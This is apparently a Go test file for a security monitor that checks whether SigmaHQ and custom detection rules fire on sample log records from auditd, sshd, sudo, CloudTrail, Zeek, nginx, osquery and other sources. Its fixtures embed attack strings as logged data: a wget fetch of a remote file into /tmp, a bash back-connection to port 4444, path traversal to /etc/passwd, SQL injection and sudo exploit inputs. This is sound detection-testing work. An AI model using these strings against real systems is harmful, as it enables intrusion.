package detect_test

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/security-monitor/secmon/detect"
	"github.com/security-monitor/secmon/ingest"
	"github.com/security-monitor/secmon/monitor"
)

// sourceCase is a record as a source's shippers send it, and the file of the rule of
// SigmaHQ that must fire on it.
type sourceCase struct{ source, rule, record string }

// sourceCases are of every source that SigmaHQ has rules for, each by every way in
// which it comes. Windows has the labelled events.
var sourceCases = []sourceCase{
	{"auditd as JSON", "lnx_auditd_data_compressed", `{"type":"EXECVE","msg":"audit(1777887000.1:9):","argc":"3","a0":"tar","a1":"-czf","a2":"x"}`},
	{"auditd, a line", "lnx_auditd_load_module_insmod", `{"message":"type=SYSCALL msg=audit(1777887000.1:9): arch=c000003e syscall=313 success=yes exit=0 comm=\"insmod\" exe=\"/usr/bin/kmod\" key=\"modules\""}`},
	{"auditd in the journal", "lnx_auditd_data_compressed", `{"_TRANSPORT":"audit","_AUDIT_TYPE_NAME":"EXECVE","_HOSTNAME":"db-1","MESSAGE":"EXECVE argc=2 a0=\"zip\" a1=\"x\""}`},
	{"auditd by syslog", "lnx_auditd_data_compressed", `{"message":"<13>May  4 09:30:00 db-1 audispd: node=db-1 type=EXECVE msg=audit(1777887000.1:9): argc=2 a0=\"zip\" a1=\"x\""}`},
	{"auditd by LAUREL, processes", "proc_creation_lnx_wget_download_suspicious_directory", `{"ID":"1777887000.1:9","SYSCALL":{"exe":"/usr/bin/wget","comm":"wget","SYSCALL":"execve"},"EXECVE":{"argc":4,"ARGV":["wget","-O","/tmp/x","http://203.0.113.9/x"]}}`},
	{"auditd by LAUREL, audit", "lnx_auditd_data_compressed", `{"ID":"1777887000.1:9","SYSCALL":{"exe":"/usr/bin/zip","comm":"zip","SYSCALL":"execve"},"EXECVE":{"argc":2,"ARGV":["zip","x"]}}`},
	{"sshd in the journal", "lnx_sshd_susp_ssh", `{"_HOSTNAME":"web-1","SYSLOG_IDENTIFIER":"sshd-session","MESSAGE":"Corrupted MAC on input. [preauth]"}`},
	{"sshd, RFC 3164", "lnx_sshd_susp_ssh", `{"message":"<38>May  4 09:30:01 web-1 sshd[812]: error: key_read: unknown or unsupported key type"}`},
	{"sshd, RFC 5424", "lnx_sshd_exploit_cve_2018_15473", `{"message":"<38>1 2026-05-04T09:30:01Z web-1 sshd 812 - - error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308 [preauth]"}`},
	{"sudo in the journal", "lnx_sudo_exploit_cve_2019_14287", `{"_HOSTNAME":"web-1","SYSLOG_IDENTIFIER":"sudo","MESSAGE":"bob : TTY=pts/0 ; PWD=/home/bob ; USER=#-1 ; COMMAND=/usr/bin/id"}`},
	{"sudo, a line", "lnx_sudo_exploit_cve_2019_14287", `{"log":"May  4 09:30:01 web-1 sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=#4294967295 ; COMMAND=/usr/bin/id"}`},
	{"systemd in the journal", "lnx_syslog_security_tools_disabling_syslog", `{"_HOSTNAME":"web-1","SYSLOG_IDENTIFIER":"systemd","UNIT":"firewalld.service","MESSAGE":"Stopping firewalld.service - firewalld - dynamic firewall daemon..."}`},
	{"systemd, a line", "lnx_syslog_security_tools_disabling_syslog", `{"message":"May  4 09:30:01 web-1 systemd[1]: Stopping iptables.service - IPv4 firewall with iptables..."}`},
	{"named, a line", "lnx_syslog_susp_named", `{"message":"May  4 09:30:01 ns-1 named[9]: client 203.0.113.9#53 denied AXFR from 203.0.113.9 for example.com"}`},
	{"cron", "lnx_cron_crontab_file_modification", `{"message":"May  4 09:30:01 web-1 crontab[99]: (root) REPLACE (root)"}`},
	{"pkexec", "lnx_auth_exploit_cve_2021_4034", `{"message":"May  4 09:30:01 web-1 pkexec[99]: bob: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/home/bob] [COMMAND=/usr/bin/pkexec]"}`},
	{"CloudTrail", "aws_cloudtrail_guardduty_detector_deleted", `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser"},"eventTime":"2026-05-04T09:31:00Z","eventSource":"guardduty.amazonaws.com","eventName":"DeleteDetector"}`},
	{"CloudTrail by EventBridge", "aws_cloudtrail_bucket_deleted", `{"detail-type":"AWS API Call via CloudTrail","source":"aws.s3","detail":{"eventVersion":"1.08","userIdentity":{"type":"IAMUser"},"eventSource":"s3.amazonaws.com","eventName":"DeleteBucket"}}`},
	{"CloudTrail, what stands anywhere in the parameters", "aws_disable_bucket_versioning", `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser"},"eventSource":"s3.amazonaws.com","eventName":"PutBucketVersioning","requestParameters":{"VersioningConfiguration":{"Status":"Suspended"}}}`},
	{"VPC flow log, a line", "net_firewall_cleartext_protocols", `{"message":"2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 20641 23 6 20 4249 1777887000 1777887060 ACCEPT OK"}`},
	{"VPC flow log as JSON", "net_firewall_cleartext_protocols", `{"interface_id":"eni-1","srcaddr":"10.0.0.1","dstaddr":"10.0.0.2","srcport":4000,"dstport":3306,"protocol":6,"action":"ACCEPT","log_status":"OK","start":1777887000}`},
	{"Kubernetes audit", "kubernetes_audit_secrets_modified", `{"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"delete","objectRef":{"resource":"secrets","name":"x"},"responseStatus":{"code":200}}`},
	{"Kubernetes audit, of the pod's specification", "kubernetes_audit_hostpath_mount", `{"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"create","objectRef":{"resource":"pods"},"requestObject":{"spec":{"volumes":[{"hostPath":{"path":"/"}}]}}}`},
	{"Kubernetes audit, capabilities", "kubernetes_audit_privileged_pod_creation", `{"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"create","objectRef":{"resource":"pods"},"requestObject":{"spec":{"containers":[{"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}}]}}}`},
	{"Suricata, DNS version 3", "net_dns_external_service_interaction_domains", `{"timestamp":"2026-05-04T09:30:00+0000","flow_id":1,"event_type":"dns","src_ip":"10.0.0.1","dns":{"version":3,"type":"request","queries":[{"rrname":"x.interact.sh","rrtype":"A"}]}}`},
	{"Suricata, DNS version 2", "net_dns_susp_telegram_api", `{"timestamp":"2026-05-04T09:30:00+0000","flow_id":1,"event_type":"dns","dns":{"type":"query","rrname":"api.telegram.org"}}`},
	{"Suricata, HTTP", "proxy_ua_malware", `{"timestamp":"2026-05-04T09:30:00+0000","flow_id":1,"event_type":"http","http":{"hostname":"a.example","url":"/","http_user_agent":"HttpBrowser/1.0","http_method":"GET"}}`},
	{"Zeek, DNS", "zeek_dns_mining_pools", `{"_path":"dns","ts":1777887000.5,"uid":"C1","id.orig_h":"10.0.0.1","id.resp_h":"10.0.0.2","id.resp_p":53,"query":"eu.minexmr.com","qtype_name":"A"}`},
	{"Zeek, DNS by the rules for every resolver", "net_dns_external_service_interaction_domains", `{"_path":"dns","ts":1777887000.5,"uid":"C1","id.orig_h":"10.0.0.1","query":"x.interact.sh"}`},
	{"Zeek without its log's name", "zeek_smb_converted_win_impacket_secretdump", `{"ts":1777887000.5,"uid":"C1","id.orig_h":"10.0.0.1","id.resp_h":"10.0.0.2","action":"SMB::FILE_OPEN","path":"\\\\dc-1\\ADMIN$","name":"SYSTEM32\\abc.tmp"}`},
	{"Zeek, RPC", "zeek_dce_rpc_potential_petit_potam", `{"ts":1777887000.5,"uid":"C1","id.orig_h":"10.0.0.1","endpoint":"efsrpc","operation":"EfsRpcOpenFileRaw"}`},
	{"Zeek, HTTP by the rules for proxies", "proxy_ua_malware", `{"_path":"http","ts":1777887000.5,"uid":"C1","id.orig_h":"10.0.0.1","method":"GET","host":"a.example","uri":"/","user_agent":"backdoorbot"}`},
	{"Zeek, TSV", "zeek_default_cobalt_strike_certificate", "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tx509\n#open\t2026-05-04-09-30-00\n#fields\tts\tfingerprint\tcertificate.serial\tsan.dns\n#types\ttime\tstring\tstring\tvector[string]\n1777887000.5\tab\t8BB00EE\t(empty)\n#close\t2026-05-04-10-00-00\n"},
	{"nginx, a line", "web_cve_2019_19781_citrix_exploit", `{"log":"203.0.113.20 - - [04/May/2026:09:42:00 +0000] \"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\" 200 51 \"-\" \"curl/8\""}`},
	{"nginx as JSON", "web_path_traversal_exploitation_attempt", `{"remote_addr":"203.0.113.20","status":"200","request":"GET /x?f=../../../etc/passwd HTTP/1.1","http_user_agent":"curl/8"}`},
	{"nginx by syslog", "web_source_code_enumeration", `{"message":"<190>May  4 09:42:00 web-1 nginx: 203.0.113.20 - - [04/May/2026:09:42:00 +0000] \"GET /.git/config HTTP/1.1\" 200 51 \"-\" \"curl/8\""}`},
	{"Apache, a line with its virtual host", "web_sql_injection_in_access_logs", `{"message":"www.example:80 203.0.113.20 - - [04/May/2026:09:42:00 +0000] \"GET /x.php?id=1%20UNION%20SELECT%201 HTTP/1.1\" 200 51 \"-\" \"curl/8\"","log":{"file":{"path":"/var/log/apache2/access.log"}}}`},
	{"osquery, processes", "proc_creation_lnx_wget_download_suspicious_directory", `{"name":"process_events","hostIdentifier":"ws-9","unixTime":1777887000,"columns":{"path":"/usr/bin/wget","cmdline":"wget -O /tmp/x http://203.0.113.9/x","time":"1777886999"},"action":"added"}`},
	{"osquery, connections", "net_connection_lnx_back_connect_shell_dev", `{"name":"pack_x_socket_events","hostIdentifier":"ws-9","unixTime":1777887000,"decorations":{"platform":"linux"},"columns":{"path":"/bin/bash","remote_address":"203.0.113.9","remote_port":"4444","time":"1777886999"},"action":"added"}`},
	{"osquery, files", "file_event_lnx_susp_shell_script_under_profile_directory", `{"name":"file_events","hostIdentifier":"ws-9","unixTime":1777887000,"columns":{"target_path":"/etc/profile.d/x.sh","action":"CREATED","time":"1777886999"},"action":"added"}`},
	{"osquery, a snapshot of one row", "proc_creation_lnx_wget_download_suspicious_directory", `{"name":"process_events","hostIdentifier":"ws-9","unixTime":1777887000,"snapshot":[{"path":"/usr/bin/wget","cmdline":"wget -O /tmp/x http://203.0.113.9/x","time":"2"}],"action":"snapshot"}`},
	{"clamscan", "lnx_clamav_relevant_message", `{"message":"/tmp/x: Unix.Trojan.Mirai-5607483-0 FOUND"}`},
	{"clamd's log by the rules for every scanner", "av_password_dumper", `{"log":"Mon May  4 09:30:00 2026 -> /srv/x.exe: Win.Tool.Mimikatz-1(44d88612fea8a8f36de82e1278abb02f:68) FOUND"}`},
	{"clamd in the journal", "lnx_clamav_relevant_message", `{"_HOSTNAME":"files-1","SYSLOG_IDENTIFIER":"clamd","MESSAGE":"/srv/x.php: Php.Webshell.C99-1 FOUND"}`},
	{"Auditbeat", "proc_creation_lnx_wget_download_suspicious_directory", `{"@timestamp":"2026-05-04T09:30:00Z","event":{"category":["process"],"type":["start"]},"host":{"os":{"platform":"ubuntu","type":"linux"}},"process":{"executable":"/usr/bin/wget","args":["wget","-O","/tmp/x","http://203.0.113.9/x"]}}`},
}

func TestRulesOfSigmaHQFireOnEverySource(t *testing.T) {
	s := activeSide(t)
	for _, c := range sourceCases {
		t.Run(c.source, func(t *testing.T) {
			var hits []string
			for _, e := range bodyEvents(t, c.record) {
				for _, r := range s.hits(t, &e.rec) {
					hits = append(hits, s.names[r])
				}
			}
			if !slices.ContainsFunc(hits, func(name string) bool { return strings.Contains(name, "/"+c.rule) }) {
				t.Errorf("%s does not fire; these do: %v", c.rule, hits)
			}
		})
	}
}

// bodyEvents reads a body as /api/ingest does.
func bodyEvents(t testing.TB, body string) []*logEvent {
	t.Helper()
	var list []*logEvent
	err := ingest.Split(strings.NewReader(body), ingest.DefaultLimits, func(line int, raw []byte, problem *ingest.Rejection) error {
		if problem != nil {
			t.Fatalf("line %d: %s", line, problem.Message)
		}
		list = append(list, normalised(t, "", bytes.Clone(raw)))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return list
}

// SigmaHQ has no rules for these: the repository's own, and the rule that anybody would
// write by docs/ingest.md.
func TestRulesFireOnSourcesWithoutRulesOfSigmaHQ(t *testing.T) {
	pack := func(name string) string {
		text, err := os.ReadFile(filepath.Join("..", "rulepack", "rules", name+".yml"))
		if err != nil {
			t.Fatal(err)
		}
		return string(text)
	}
	own := func(source, detection string) string {
		return "title: t\nid: 6f0b7a1e-52f3-4c0e-9a3e-1f7d2c6b8a90\nlogsource: {" + source + "}\ndetection:\n  selection: {" + detection + "}\n  condition: selection\n"
	}
	for _, c := range []sourceCase{
		{"GuardDuty", own("product: aws, service: guardduty", "type|startswith: 'UnauthorizedAccess:', src_ip: 198.51.100.4"), `{"type":"UnauthorizedAccess:EC2/SSHBruteForce","severity":5,"resource":{"resourceType":"Instance"},"service":{"serviceName":"guardduty","action":{"networkConnectionAction":{"remoteIpDetails":{"ipAddressV4":"198.51.100.4"}}}}}`},
		{"Falco", own("product: falco, service: syscall", "priority: Critical, CommandLine|contains: ' -i'"), `{"rule":"Shell","priority":"Critical","source":"syscall","time":"2026-05-04T09:30:00Z","output":"x","output_fields":{"proc.cmdline":"bash -i"}}`},
		{"journald, who and from where", own("product: linux, service: sshd", "User: root, SourceIp|cidr: 203.0.113.0/24"), `{"SYSLOG_IDENTIFIER":"sshd","_HOSTNAME":"web-1","MESSAGE":"Failed password for root from 203.0.113.5 port 40022 ssh2"}`},
		{"PAM", own("product: linux", "pam_message: authentication failure, pam_rhost: 203.0.113.5"), `{"SYSLOG_IDENTIFIER":"sshd","_HOSTNAME":"web-1","MESSAGE":"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.5  user=root"}`},
		{"report of malware", pack("report_malware"), `{"report":"malware","time":"2026-05-04T09:30:00Z","host":"ws-bob","file_path":"C:\\x.exe","score":94,"status":"detected"}`},
		{"report of web activity", pack("report_malicious_site"), `{"report":"web_activity","time":"2026-05-04T09:30:00Z","host":"ws-bob","domain":"login.example","score":88,"category":"phishing","action":"allowed"}`},
		{"report of the network", pack("report_backdoor_port"), `{"report":"network","time":"2026-05-04T09:30:00Z","host":"db-1","port":4444,"open":true,"connection_count":1}`},
	} {
		t.Run(c.source, func(t *testing.T) {
			rule, err := detect.Parse([]byte(c.rule))
			if err != nil {
				t.Fatal(err)
			}
			var about monitor.Event
			var rec monitor.Record
			if err := ingest.NewNormaliser().Normalise([]byte(c.record), time.Unix(1_790_000_000, 0), &about, &rec); err != nil {
				t.Fatal(err)
			}
			if hits := detect.Compile([]*monitor.Rule{rule}).Match(&rec, nil); len(hits) != 1 {
				t.Errorf("the rule does not fire on\n%s", showRecord(&rec))
			}
		})
	}
}
